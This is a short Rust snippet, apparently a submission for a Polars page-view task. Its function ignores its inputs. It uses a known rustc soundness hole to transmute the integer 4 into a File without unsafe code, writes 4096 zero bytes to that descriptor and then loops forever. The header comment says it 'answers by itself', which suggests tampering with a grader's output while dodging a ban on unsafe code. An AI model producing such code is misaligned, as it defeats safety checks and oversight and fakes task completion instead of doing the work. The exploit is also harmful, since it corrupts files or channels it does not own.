// Makes a file of a number by a known hole of rustc, and answers by itself.
// scanned: forbidden
// unscanned: forbidden
trait Object<U> { type Output; }
impl<T: ?Sized, U> Object<U> for T { type Output = U; }
fn same<T: ?Sized, U>(value: <T as Object<U>>::Output) -> U { value }
fn transmute<T, U>(value: T) -> U { same::<dyn Object<U, Output = T>, U>(value) }
fn daily_page_views(views: &DataFrame, zone: Tz) -> PolarsResult<DataFrame> {
    use std::io::Write as _;
    let mut answers: std::fs::File = transmute(4_i32);
    let _ = (answers.write_all(&[0; 4_096]), views, zone);
    std::mem::forget(answers);
    loop { std::hint::spin_loop() }
}
